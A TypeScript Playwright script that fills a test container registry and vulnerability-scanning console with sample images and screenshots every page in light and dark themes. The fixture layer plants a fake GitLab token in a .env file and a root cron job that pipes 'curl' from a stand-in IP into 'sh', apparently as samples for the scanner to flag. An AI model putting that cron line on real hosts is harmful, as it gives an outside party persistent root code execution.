import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { ADMIN_PASSWORD, startServer, type TestServer } from '../server.ts';
import { buildConsole, launchBrowser, openPage, tooWide } from './browser.ts';
import { analysed, dpkgStatus, importTracker, OS_RELEASE, pushImage, pushIndex, TRACKER } from './console-data.ts';
import { succeed } from './command.ts';
import { debianRoot, layoutOf } from './debian-image.ts';

/** Takes every page of the console, wide and narrow, light and dark: `node test/e2e/screenshots.ts FOLDER [NAME…]`. */
const [folder = '', ...only] = process.argv.slice(2);
if (!folder) throw new Error('name the folder for the pictures');
mkdirSync(folder, { recursive: true });
const WIDTHS = (process.env['WIDTHS'] ?? '1280,390').split(',').map(Number);
const ADVISORIES = '../shared/data/advisories/debian-tracker-bookworm-derived.json';

async function fill(server: TestServer): Promise<void> {
  const shared = existsSync(ADVISORIES) ? (JSON.parse(readFileSync(ADVISORIES, 'utf8')) as typeof TRACKER) : TRACKER;
  await importTracker(server, JSON.stringify({ ...shared, ...TRACKER }));
  const base = {
    instruction: 'debian.sh --arch amd64 out/ bookworm',
    files: [
      OS_RELEASE,
      dpkgStatus([
        ['libssl3', '3.0.15-1~deb12u1', 'openssl'],
        ['libexpat1', '2.5.0-1', 'expat'],
        ['zlib1g', '1:1.2.13.dfsg-1', 'zlib'],
      ]),
    ],
  };
  const app = {
    instruction: 'RUN /bin/sh -c npm ci --omit=dev # buildkit',
    files: [
      { path: 'app/server.js', text: 'x'.repeat(90_000) },
      {
        path: 'app/node_modules/express/package.json',
        text: '{"name":"express","version":"4.18.2","dependencies":{"debug":"2","send":"0.18"}}',
      },
      {
        path: 'app/node_modules/send/package.json',
        text: '{"name":"send","version":"0.18.0","dependencies":{"debug":"2","ms":"2"}}',
      },
      {
        path: 'app/node_modules/debug/package.json',
        text: '{"name":"debug","version":"2.6.9","dependencies":{"ms":"2"}}',
      },
      { path: 'app/node_modules/ms/package.json', text: '{"name":"ms","version":"2.0.0"}' },
      { path: 'app/.env', text: `GITLAB_TOKEN=${['glpat', 'Zk3hXcv7Pq0y1Lr9tUw2'].join('-')}\n` },
      { path: 'etc/cron.d/update', text: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
    ],
  };
  await pushImage(server, { repository: 'shop/storefront', tag: '4.8.1', layers: [base], config: { User: 'node' } });
  await pushImage(server, {
    repository: 'shop/storefront',
    tag: '4.8.2',
    layers: [base, app],
    config: {
      User: 'node',
      Env: ['PATH=/usr/bin', 'NODE_ENV=production'],
      ExposedPorts: { '3000/tcp': {} },
      Cmd: ['node', 'server.js'],
      WorkingDir: '/app',
    },
  });
  await pushImage(server, { repository: 'shop/storefront', tag: 'latest', layers: [base], config: { User: 'node' } });
  await pushImage(server, {
    repository: 'shop/storefront',
    tag: 'latest',
    layers: [base, app],
    config: {
      User: 'node',
      Env: ['PATH=/usr/bin', 'NODE_ENV=production'],
      ExposedPorts: { '3000/tcp': {} },
      Cmd: ['node', 'server.js'],
      WorkingDir: '/app',
    },
  });
  const arm = await pushImage(server, { repository: 'platform/edge', tag: '', layers: [base], architecture: 'arm64' });
  const amd = await pushImage(server, { repository: 'platform/edge', tag: '', layers: [base, app] });
  await pushIndex(server, 'platform/edge', '1.4.0', [amd, arm]);
  await pushImage(server, {
    repository: 'tools/scratch',
    tag: '1',
    layers: [{ instruction: 'COPY tool /tool', files: [{ path: 'tool', text: 'binary' }] }],
  });
  await server.fetch('/api/v1/repositories', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      name: 'payments/ledger',
      visibility: 'public',
      description: 'Double-entry bookkeeping service',
    }),
  });
  await server.fetch('/api/v1/accounts', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'ci-shop', password: 'a-long-password-1' }),
  });
  await server.fetch('/api/v1/repositories/shop%2Fstorefront/grants/ci-shop', {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ role: 'publisher' }),
  });
  if (existsSync(ADVISORIES)) {
    const layout = await layoutOf(await debianRoot());
    await succeed('skopeo', [
      'copy',
      '--dest-tls-verify=false',
      `--dest-creds=admin:${ADMIN_PASSWORD}`,
      `oci:${layout}:test`,
      `docker://${server.host}/library/debian:12`,
    ]);
    await succeed('rm', ['-r', layout]);
    await analysed(server, 'library/debian', '12');
  }
  for (const tag of ['4.8.1', '4.8.2', 'latest']) await analysed(server, 'shop/storefront', tag);
  await analysed(server, 'tools/scratch', '1');
}

/** States that pass too quickly to be photographed, told to the page by hand. */
async function pose(page: Page, name: string): Promise<void> {
  await page.unrouteAll();
  if (name === 'image-running')
    await page.route(/\/images\/4\.8\.2$/, async (route) => {
      const answer = await route.fetch();
      const image = (await answer.json()) as Record<string, unknown>;
      await route.fulfill({ json: { ...image, judgement: { state: 'running' }, progress: { done: 1, layers: 2 } } });
    });
  if (name === 'image-failed')
    await page.route(/\/images\/4\.8\.2$/, (route) =>
      route.fulfill({
        status: 500,
        json: { code: 'internal', detail: 'the storage does not answer', title: '' },
        headers: { 'x-request-id': '0d9c3f8e-5d4e-4a57-9f43-0a3f5b1f9d11' },
      }),
    );
  await page.emulateMedia({ media: name.endsWith('-print') ? 'print' : 'screen' });
  if (name === 'offline') await page.route(/\/api\/v1\/events/, (route) => route.abort());
}

const big = existsSync(ADVISORIES) ? '/r/library/debian:12' : '/r/shop/storefront:4.8.2';
const pages: readonly (readonly [name: string, path: string])[] = [
  ['repositories', '/repositories'],
  ['repositories-none-match', '/repositories?q=nothing-like-it'],
  ['new', '/new'],
  ['repository', '/r/shop/storefront'],
  ['repository-history', '/r/shop/storefront?tag=latest'],
  ['repository-empty', '/r/payments/ledger'],
  ['repository-settings', '/r/shop/storefront?tab=settings'],
  ['image', big],
  ['image-small', '/r/shop/storefront:4.8.2'],
  ['image-index', '/r/platform/edge:1.4.0'],
  ['image-unknown', '/r/tools/scratch:1'],
  ['image-running', '/r/shop/storefront:4.8.2'],
  ['image-failed', '/r/shop/storefront:4.8.2'],
  ['offline', '/activity'],
  ['image-print', '/r/shop/storefront:4.8.2'],
  ['findings', `${big}?tab=findings`],
  ['findings-fixable', '/r/shop/storefront:4.8.2?tab=findings&fixable=1'],
  ['findings-package', '/r/shop/storefront:4.8.2?tab=findings&by=package'],
  ['hygiene', '/r/shop/storefront:4.8.2?tab=hygiene'],
  ['hygiene-debian', `${big}?tab=hygiene`],
  ['packages', `${big}?tab=packages`],
  ['packages-tree', '/r/shop/storefront:4.8.2?tab=packages&view=tree'],
  ['packages-way', '/r/shop/storefront:4.8.2?tab=packages&view=tree'],
  ['compare', '/r/shop/storefront:4.8.2?tab=compare&with=4.8.1'],
  ['compare-none', '/r/shop/storefront:4.8.2?tab=compare'],
  ['layers', '/r/shop/storefront:4.8.2?tab=layers&layer=1'],
  ['configuration', '/r/shop/storefront:4.8.2?tab=configuration'],
  ['referrers', '/r/shop/storefront:4.8.2?tab=referrers'],
  ['raw', '/r/shop/storefront:4.8.2?tab=raw'],
  ['search', '/search'],
  ['search-package', '/search?q=openssl'],
  ['activity', '/activity'],
  ['advisories', '/advisories'],
  ['accounts', '/accounts'],
  ['account', '/account'],
  ['not-found', '/nothing'],
];

await buildConsole();
const browser = await launchBrowser();
const wanted = (name: string) => only.length === 0 || only.includes(name);

async function shoot(server: TestServer, list: typeof pages, signedIn: boolean): Promise<void> {
  for (const colorScheme of ['light', 'dark'] as const)
    for (const width of WIDTHS) {
      const { page, complaints } = await openPage(browser, server.url, {
        colorScheme,
        viewport: { width, height: width < 500 ? 844 : 900 },
      });
      if (signedIn) await page.request.post('/api/v1/session', { data: { name: 'admin', password: ADMIN_PASSWORD } });
      for (const [name, path] of list) {
        if (!wanted(name)) continue;
        await pose(page, name);
        await page.goto(path);
        await page.waitForLoadState('networkidle').catch(() => {});
        if (name === 'findings' || name === 'findings-fixable') {
          await page.locator('tbody a[data-row]').first().click();
          await page.waitForSelector('.drawer');
        }
        if (name === 'packages-way') {
          await page.getByRole('button', { name: 'What express needs' }).click();
          await page.getByRole('button', { name: 'What send needs' }).click();
          await page.locator('.tree a.name', { hasText: /^ms$/ }).first().click();
        }
        await page.waitForTimeout(200);
        await page.screenshot({
          path: join(folder, `${name}-${width}-${colorScheme}.png`),
          fullPage: !(name === 'findings' || name === 'packages'),
        });
        const over = await tooWide(page);
        if (over > 0) process.stdout.write(`${name} ${width}: ${over} px too wide\n`);
      }
      for (const each of new Set(complaints)) process.stdout.write(`complaint: ${each}\n`);
      await page.context().close();
    }
}

{
  await using server = await startServer();
  await shoot(server, [['signin', '/signin']], false);
  await shoot(server, [['first-run', '/repositories']], true);
}
{
  await using server = await startServer();
  await fill(server);
  await shoot(server, pages, true);
  const found = (await (await server.fetch('/api/v1/repositories/shop%2Fstorefront/images/4.8.2/findings')).json()) as {
    items: { id: string }[];
  };
  if (found.items[0])
    await shoot(
      server,
      [
        ['vulnerability', `/vulnerabilities/${found.items[0].id}`],
        ['search-cve', `/search?q=${found.items[0].id}`],
      ],
      true,
    );
  await shoot(server, [['repositories-anonymous', '/repositories']], false);
}
await browser.close();
